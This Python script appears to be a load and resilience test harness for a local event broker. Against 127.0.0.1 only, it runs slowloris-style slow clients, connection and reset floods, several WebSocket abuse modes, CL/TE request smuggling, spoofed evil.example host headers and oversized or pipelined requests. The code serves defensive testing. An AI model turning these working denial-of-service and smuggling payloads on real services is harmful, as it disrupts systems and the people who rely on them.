"""One attack: so many hostile clients on one thread, until its time is up or it is told to end.

    python3 attacker.py NAME ADDRESS CLIENTS SECONDS PAUSE

`run` starts it; PAUSE is how long a slow client waits between two bytes. On SIGTERM, or after SECONDS, it
closes what it has open and prints what it got as one line of JSON.

Law: loopback only, at most CLIENTS connections at a time, nothing read is kept, and it ends by itself."""

import asyncio
import contextlib
import json
import os
import random
import signal
import socket
import struct
import sys
import time

# For a connection to be opened or a write to be taken.
PATIENCE = 30
# After the broker has sent one away, so that a refusal does not make a busy loop.
REST = 0.2
READ_BYTES = 64 << 10
# They come from several addresses, as a botnet would.
SOURCES = [f"127.0.0.{last}" for last in range(2, 10)]
RESET = struct.pack("ii", 1, 0)
ESTABLISHED = 1
# ip(7): the port is chosen at the connect, so that a port can be in use towards others.
IP_BIND_ADDRESS_NO_PORT = 24

# The key of RFC 6455's example: what the server makes of it is not checked.
UPGRADE = (
    b"GET /ws HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
)
STREAM = b"GET /events HTTP/1.1\r\nHost: localhost\r\nAccept: text/event-stream\r\n\r\n"
# All that the ring holds, at once: the quickest way to fill a socket that nobody reads.
REPLAY = STREAM.replace(b"/events", b"/events?since=earliest")


class Attack:
    """What all clients of one attack share."""

    def __init__(self, address, pause):
        host, port = address.rsplit(":", 1)
        if host != "127.0.0.1":
            raise SystemExit("attacks go to 127.0.0.1 alone")
        self.address, self.pause = (host, int(port)), pause
        self.opened = self.failed = self.ended = self.open = self.open_most = self.sent = self.turns = 0
        self.held_most = self.held_sum = 0.0
        self.answers = {}

    def answered(self, bytes_read):
        """Counts the status lines among what was read."""
        for line in bytes_read.split(b"HTTP/1.")[1:]:
            status = line[2:5].decode("latin-1")
            if status.isdigit():
                self.answers[status] = self.answers.get(status, 0) + 1

    def got(self):
        return {
            "opened": self.opened, "failed": self.failed, "ended_by_broker": self.ended, "open_most": self.open_most,
            "held_most": round(self.held_most, 2), "held_mean": round(self.held_sum / max(1, self.opened), 2),
            "sent": self.sent, "turns": self.turns, "answers": self.answers,
        }

    @contextlib.asynccontextmanager
    async def client(self, receive_buffer=None):
        """A connection, and its end."""
        with socket.socket() as one:
            one.setblocking(False)
            if receive_buffer:
                one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
            one.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
            one.bind((random.choice(SOURCES), 0))
            await asyncio.wait_for(asyncio.get_running_loop().sock_connect(one, self.address), PATIENCE)
            self.opened += 1
            self.open += 1
            self.open_most = max(self.open_most, self.open)
            since = time.monotonic()
            try:
                yield Client(self, one)
            finally:
                self.open -= 1
                held = time.monotonic() - since
                self.held_most = max(self.held_most, held)
                self.held_sum += held


class Ended(Exception):
    """The broker has closed or reset the connection."""


class Client:
    def __init__(self, attack, sock):
        self.attack, self.sock = attack, sock

    async def send(self, data):
        try:
            await asyncio.wait_for(asyncio.get_running_loop().sock_sendall(self.sock, data), PATIENCE)
        except OSError:
            raise Ended from None
        self.attack.sent += len(data)

    async def receive(self, most=READ_BYTES, within=PATIENCE):
        """What comes next; nothing if nothing comes in time."""
        try:
            data = await asyncio.wait_for(asyncio.get_running_loop().sock_recv(self.sock, most), within)
        except TimeoutError:
            return b""
        except OSError:
            raise Ended from None
        if not data:
            raise Ended
        return data

    async def head(self):
        """Reads an answer's head; true if it lets the client in."""
        head = b""
        while b"\r\n\r\n" not in head:
            more = await self.receive()
            if not more:
                raise Ended
            head += more
        self.attack.answered(head)
        return head[9:12] in (b"200", b"101") and b"Connection: close\r\nRetry-After" not in head

    async def unread(self):
        """Waits without reading, until the broker has had enough."""
        while self.sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0] == ESTABLISHED:
            await asyncio.sleep(0.5)
        raise Ended

    async def drained(self):
        """Reads until the broker ends it."""
        while True:
            self.attack.answered(await self.receive())

    def reset(self):
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)


def frame(head, payload=b"", masked=True):
    """A ws frame whose first byte is `head`; its mask is zero."""
    mask = 0x80 if masked else 0
    return bytes([head, mask | len(payload)]) + (b"\0\0\0\0" if masked else b"") + payload


# === the attacks: each is what one client does, again and again ===

async def slow_headers(attack):
    """A byte of a head now and then, never the end."""
    async with attack.client() as client:
        await client.send(b"GET /events HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")
        while True:
            attack.answered(await client.receive(within=attack.pause * random.uniform(0.7, 1.3)))
            await client.send(b"a")


async def slow_bodies(attack):
    """A byte of a body to publish now and then."""
    async with attack.client() as client:
        await client.send(
            b"POST /v1/devices/events HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
            b"Content-Length: 10000\r\n\r\n{"
        )
        while True:
            attack.answered(await client.receive(within=attack.pause * random.uniform(0.7, 1.3)))
            await client.send(b" ")


async def slow_readers(attack):
    """A stream of all that there is, of which only the head is read."""
    async with attack.client(receive_buffer=4096) as client:
        await client.send(REPLAY)
        await client.receive(16)
        await client.unread()


async def drip_readers(attack):
    """The same, read a byte a second."""
    async with attack.client(receive_buffer=4096) as client:
        await client.send(REPLAY)
        while True:
            await client.receive(1)
            await asyncio.sleep(1)


async def flood(attack):
    """A connection that says nothing."""
    async with attack.client() as client:
        await client.drained()


async def storm(attack):
    """A stream that is reset once its head is there."""
    async with attack.client() as client:
        await client.send(STREAM)
        client.reset()
        await client.head()
        attack.turns += 1


async def ws_unmasked(attack):
    async with attack.client() as client:
        await client.send(UPGRADE)
        await client.head()
        await client.send(frame(0x81, b"{}", masked=False))
        await client.drained()


async def ws_giant(attack):
    """One message of a gigabyte."""
    async with attack.client() as client:
        await client.send(UPGRADE)
        await client.head()
        await client.send(b"\x81\xff" + (1 << 30).to_bytes(8, "big") + b"\0\0\0\0")
        for _ in range((1 << 30) // READ_BYTES):
            await client.send(b"a" * READ_BYTES)


async def ws_fragments(attack):
    """A message whose parts never end."""
    async with attack.client() as client:
        await client.send(UPGRADE)
        await client.head()
        await client.send(frame(0x01, b"a"))
        while True:
            await client.send(frame(0x00, b"") * 20)
            await asyncio.sleep(0)


async def ws_pings(attack):
    """Pings without end, whose answers nobody reads."""
    async with attack.client(receive_buffer=4096) as client:
        await client.send(UPGRADE)
        await client.head()
        while True:
            await client.send(frame(0x89, b"a" * 125) * 20)
            attack.turns += 20
            await asyncio.sleep(0.01)


async def ws_no_pong(attack):
    """Reads everything and answers no ping."""
    async with attack.client() as client:
        await client.send(UPGRADE)
        await client.drained()


GET = b"GET %s HTTP/1.1\r\nHost: %s\r\n%s\r\n"
REQUESTS = [
    # Length and encoding both, and a request in what follows.
    b"POST /v1/devices/events HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n"
    b"0\r\n\r\n" + GET % (b"/metrics", b"localhost", b""),
    GET % (b"/events", b"localhost", b"X: " + b"a" * (1 << 20) + b"\r\n"),
    GET % (b"/events", b"localhost", b"".join(b"X-%d: a\r\n" % number for number in range(5000))),
    GET % (b"http://evil.example/events", b"localhost", b""),
    GET % (b"/events", b"evil.example", b""),
    GET % (b"/" + b"a" * (1 << 16), b"localhost", b""),
    # Pipelined: answers that are not waited for.
    GET % (b"/last", b"localhost", b"") * 500,
    GET % (b"/nothing", b"localhost", b"") * 2000,
    b"\x16\x03\x01\0\x7f\x01\0\0\x7b\x03\x03" + b"x" * 4096,
]


async def requests(attack):
    """Requests that are none, or too large, or too many."""
    for request in REQUESTS:
        with contextlib.suppress(Ended):
            async with attack.client() as client:
                attack.turns += 1
                await client.send(request)
                for _ in range(200):
                    data = await client.receive(within=1)
                    if not data:
                        break
                    attack.answered(data)


async def polls(attack):
    """Polls as fast as they are answered, each for all that there is."""
    async with attack.client() as client:
        while True:
            await client.send(GET % (b"/poll?since=earliest&timeout=0", b"localhost", b""))
            head, _, body = (await client.receive()).partition(b"\r\n\r\n")
            attack.answered(head)
            length = [line for line in head.lower().split(b"\r\n") if line.startswith(b"content-length:")]
            left = int(length[0].split(b":")[1]) - len(body) if length else 0
            while left > 0:
                data = await client.receive()
                if not data:
                    raise Ended
                left -= len(data)
            attack.turns += 1


ATTACKS = {
    "slow-headers": slow_headers, "slow-bodies": slow_bodies, "slow-readers": slow_readers,
    "drip-readers": drip_readers, "flood": flood, "storm": storm, "ws-unmasked": ws_unmasked, "ws-giant": ws_giant,
    "ws-fragments": ws_fragments, "ws-pings": ws_pings, "ws-no-pong": ws_no_pong, "requests": requests,
    "polls": polls,
}


async def again(attack, one):
    while True:
        try:
            await one(attack)
            continue
        except Ended:
            attack.ended += 1
        except (OSError, TimeoutError):
            attack.failed += 1
        await asyncio.sleep(REST * random.uniform(0.5, 1.5))


async def main(name, address, clients, seconds, pause):
    attack = Attack(address, float(pause))
    over = asyncio.Event()
    loop = asyncio.get_running_loop()
    loop.add_signal_handler(signal.SIGTERM, over.set)
    tasks = []
    for number in range(int(clients)):
        tasks.append(asyncio.create_task(again(attack, ATTACKS[name])))
        # So many at a time, or the first would be closed before the last has begun.
        if number % 100 == 99:
            await asyncio.sleep(0)
    with contextlib.suppress(TimeoutError):
        await asyncio.wait_for(over.wait(), float(seconds))
    # Again and again, since asyncio.wait_for drops the cancelling of what is done at that moment.
    while tasks:
        for task in tasks:
            task.cancel()
        _, tasks = await asyncio.wait(tasks, timeout=0.5)
    print(json.dumps({"attack": name, "clients": int(clients), **attack.got()}))


if __name__ == "__main__":
    # Behind the healthy, who have the same processor.
    os.nice(10)
    asyncio.run(main(*sys.argv[1:]))
